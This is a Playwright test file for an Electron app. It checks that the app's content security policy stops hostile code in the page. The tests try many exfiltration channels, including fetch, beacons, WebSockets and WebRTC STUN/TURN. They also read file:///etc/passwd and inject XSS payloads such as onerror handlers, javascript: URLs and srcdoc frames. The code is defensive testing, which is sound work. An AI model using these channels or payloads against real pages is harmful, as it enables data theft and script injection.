import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { expect } from './launch'
import { serveInstead, test } from './outsider'

/** Notes in every document of the page, from here on, what its policy refuses. */
const notePolicy = (page: Page): Promise<unknown> =>
  page.addInitScript(() => {
    const refused = new Set<string>()
    Object.assign(window, { refused })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      refused.add(effectiveDirective),
    )
  })

const refusedBy = (page: Page): Promise<readonly string[]> =>
  page.evaluate(() => [...(window as unknown as { refused: Set<string> }).refused].sort())

test('hostile code in the page reaches nobody outside, in whatever way', async ({
  launch,
  outside,
  dataDir,
}) => {
  const { app, page } = await launch()
  await notePolicy(page)
  await page.reload()
  const { origin, port } = outside
  // All that Chromium does on the network for the page is noted there: the names that it looks up, too.
  const network = join(dataDir, 'network.json')
  await app.evaluate(({ session }, file) => session.defaultSession.netLog.startLogging(file), network)
  const failed = await page.evaluate(
    async ({ origin, port }) => {
      const link = (rel: string, more: Readonly<Record<string, string>> = {}): void => {
        const element = document.createElement('link')
        for (const [name, value] of Object.entries({ rel, href: `${origin}/${rel}`, ...more }))
          element.setAttribute(name, value)
        document.head.append(element)
      }
      const put = <N extends keyof HTMLElementTagNameMap>(
        name: N,
        set: Partial<HTMLElementTagNameMap[N]>,
      ): HTMLElementTagNameMap[N] => {
        const element = Object.assign(document.createElement(name), set)
        document.body.append(element)
        return element
      }
      /** By WebRTC, of which no policy of a page knows: asks a server over UDP who one is, or for a relay over TCP. */
      const gather = async (server: RTCIceServer): Promise<void> => {
        const connection = new RTCPeerConnection({ iceServers: [server] })
        connection.createDataChannel('x')
        const gathered = new Promise<void>((resolve) => {
          connection.onicegatheringstatechange = () => {
            if (connection.iceGatheringState === 'complete') resolve()
          }
        })
        await connection.setLocalDescription(await connection.createOffer())
        await gathered
      }
      /** The same without a server: somebody who is said to be the other end of a connection. */
      const meet = async (): Promise<void> => {
        const [connection, other] = [new RTCPeerConnection(), new RTCPeerConnection()]
        connection.createDataChannel('x')
        await connection.setLocalDescription(await connection.createOffer())
        await other.setRemoteDescription(connection.localDescription as RTCSessionDescription)
        await other.setLocalDescription(await other.createAnswer())
        await connection.setRemoteDescription(other.localDescription as RTCSessionDescription)
        for (const [kind, more] of [
          ['udp 2113937151', ''],
          ['tcp 1518280447', ' tcptype passive'],
        ]) {
          const candidate = `candidate:1 1 ${kind} 127.0.0.1 ${port} typ host${more}`
          await connection.addIceCandidate({ sdpMid: '0', candidate })
        }
      }
      const account = { username: 'x', credential: 'x' }
      const ways: Readonly<Record<string, () => unknown>> = {
        fetch: () => fetch(`${origin}/fetch`, { mode: 'no-cors' }),
        file: () => fetch('file:///etc/passwd'),
        request: () =>
          new Promise((resolve, reject) => {
            const request = new XMLHttpRequest()
            request.onload = resolve
            request.onerror = reject
            request.open('GET', `${origin}/request`)
            request.send()
          }),
        beacon: () => navigator.sendBeacon(`${origin}/beacon`, 'x'),
        socket: () => new WebSocket(`ws://127.0.0.1:${port}/socket`),
        events: () => new EventSource(`${origin}/events`),
        transport: () => new WebTransport(`https://127.0.0.1:${port}/transport`).ready,
        picture: () => Object.assign(new Image(), { src: `${origin}/picture` }),
        background: () => {
          put('div', { textContent: 'x' }).style.backgroundImage = `url(${origin}/background)`
        },
        sheet: () => {
          const sheet = new CSSStyleSheet()
          sheet.replaceSync(`body { background: url(${origin}/adopted) }`)
          document.adoptedStyleSheets = [sheet]
        },
        style: () => put('style', { textContent: `@import url(${origin}/import.css)` }),
        links: () => {
          for (const rel of ['stylesheet', 'prefetch', 'modulepreload', 'icon', 'manifest', 'preconnect'])
            link(rel)
          link('preload', { as: 'image' })
        },
        font: () => new FontFace('x', `url(${origin}/font)`).load(),
        video: () => put('video', { src: `${origin}/video` }).load(),
        frame: () => put('iframe', { src: `${origin}/frame` }),
        object: () => put('object', { data: `${origin}/object` }),
        embed: () => put('embed', { src: `${origin}/embed` }),
        module: () => import(/* @vite-ignore */ `${origin}/module.js`),
        script: () => put('script', { src: `${origin}/script.js` }),
        worker: () => new Worker(`${origin}/worker.js`),
        ping: () => put('a', { href: '#x', ping: `${origin}/ping` }).click(),
        form: () => put('form', { action: `${origin}/form`, method: 'post' }).submit(),
        base: () => put('base', { href: `${origin}/base/` }),
        code: () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
        policy: () =>
          (
            window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
          ).trustedTypes.createPolicy('x', {}),
        other: meet,
        packet: () => gather({ urls: `stun:127.0.0.1:${port}` }),
        relay: () => gather({ urls: `turn:127.0.0.1:${port}?transport=tcp`, ...account }),
        name: () => link('dns-prefetch', { href: 'https://prefetched.example/' }),
      }
      const answers = await Promise.allSettled(Object.values(ways).map((way) => Promise.resolve().then(way)))
      return Object.keys(ways).filter((_, index) => answers[index]?.status === 'rejected')
    },
    { origin, port },
  )
  expect(failed).toEqual([
    ...['fetch', 'file', 'request', 'transport', 'font', 'object', 'embed', 'module', 'script', 'worker'],
    ...['code', 'policy'],
  ])
  await expect
    .poll(() => refusedBy(page))
    .toEqual([
      ...['base-uri', 'connect-src', 'default-src', 'font-src', 'form-action', 'frame-src', 'img-src'],
      ...['media-src', 'require-trusted-types-for', 'script-src', 'script-src-elem', 'style-src-elem'],
      'trusted-types',
    ])
  expect(outside.visits).toEqual([])
  await app.evaluate(({ session }) => session.defaultSession.netLog.stopLogging())
  expect(await readFile(network, 'utf8')).not.toContain('prefetched.example')
})

test('a page into which anything was written runs none of it and reaches nobody', async ({
  launch,
  outside,
}) => {
  const running = await launch()
  const { page } = running
  await notePolicy(page)
  const { origin } = outside
  const markup = `<!doctype html>
<html><head><base href="${origin}/base/"><meta http-equiv="refresh" content="0;url=${origin}/refresh">
<link rel="stylesheet" href="${origin}/sheet.css"><link rel="manifest" href="${origin}/manifest">
<style>@import url(${origin}/import.css); body { color: rgb(1, 2, 3) }</style>
<script>window.pwned = 1</script><script src="${origin}/script.js"></script><script src="data:text/javascript,window.pwned=1"></script>
<script type="module">window.pwned = 1</script><script type="speculationrules">{"prefetch":[{"urls":["${origin}/speculated"]}]}</script>
</head><body onload="window.pwned=1" style="background: url(${origin}/attribute)">
<img src="none" onerror="window.pwned=1"><img src="${origin}/picture"><svg><script>window.pwned = 1</script><image href="${origin}/drawn"/></svg>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="javascript:parent.pwned=1"></iframe><iframe src="${origin}/frame"></iframe>
<object data="${origin}/object"></object><embed src="${origin}/embed"><video src="${origin}/video" poster="${origin}/poster"></video>
<a href="javascript:window.pwned=1">x</a><form action="${origin}/form"></form><p>The end.</p></body></html>`
  // Under the very headers that the app's own page comes with.
  const headers = await page.evaluate(async () =>
    Object.fromEntries((await fetch('/index.html')).headers.entries()),
  )
  await serveInstead(running, { markup, headers, away: origin })
  await page.reload()
  await page.getByText('The end.').waitFor()
  const seen = await page.evaluate(() => {
    document.querySelector('a')?.click()
    document.querySelector('form')?.submit()
    return { ran: 'pwned' in window, colour: getComputedStyle(document.body).color, base: document.baseURI }
  })
  expect(seen).toEqual({ ran: false, colour: 'rgb(0, 0, 0)', base: 'app://companion/index.html' })
  await expect
    .poll(() => refusedBy(page))
    .toEqual([
      ...['base-uri', 'form-action', 'frame-src', 'img-src', 'media-src', 'object-src', 'script-src-attr'],
      ...['script-src-elem', 'style-src-attr', 'style-src-elem'],
    ])
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  expect(outside.visits).toEqual([])
})
